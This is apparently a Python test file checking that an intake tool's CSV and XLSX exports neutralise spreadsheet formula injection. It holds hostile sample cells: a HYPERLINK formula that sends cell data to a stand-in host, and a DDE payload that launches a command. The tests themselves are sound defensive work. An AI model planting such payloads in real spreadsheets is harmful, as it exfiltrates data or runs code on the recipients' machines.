"""Spreadsheet exports never carry a formula: CSV values neutralised, XLSX text typed as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import Workbook, load_workbook

from salur_cases.intake.cli import write_report
from salur_cases.intake.report import ImportReport, RowProblem
from salur_cases.sheets import SafeCsvWriter, text_cell

HOSTILE = ["=1+2", "+1-2", "-A1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x.example/?"&A2)']


def test_csv_values_that_a_spreadsheet_would_run_are_neutralised_and_numbers_kept() -> None:
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerow([*HOSTILE, -500000, 42, "Siti Rahayu"])

    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert all(value.startswith("'") for value in row[: len(HOSTILE)])
    assert row[len(HOSTILE) :] == ["-500000", "42", "Siti Rahayu"]


def test_xlsx_text_is_never_a_formula() -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append([text_cell(sheet, v) for v in [*HOSTILE, 7]])
    buffer = io.BytesIO()
    workbook.save(buffer)

    row = next(load_workbook(buffer).active.iter_rows())  # type: ignore[union-attr]
    assert [c.value for c in row] == [v.replace("\r", "\n") for v in HOSTILE] + [7]  # XML keeps no CR
    assert [c.data_type for c in row] == ["s"] * len(HOSTILE) + ["n"]


def test_the_import_report_csv_is_safe_to_open(tmp_path: Path) -> None:
    problem = RowProblem(2, HOSTILE[-1], "BAD_VALUE", "=cmd|' /C calc'!A0")
    report = ImportReport("abc", "payments", 1, 0, rejected=[problem])

    write_report(report, tmp_path / "report.csv")

    rows = list(csv.reader((tmp_path / "report.csv").open(encoding="utf-8", newline="")))
    assert rows[1][:3] == ["2", "'" + HOSTILE[-1], "BAD_VALUE"]
    assert rows[1][3].startswith("'=cmd")
    assert not any(v[:1] in {"=", "+", "-", "@", "\t", "\r"} for v in rows[1])
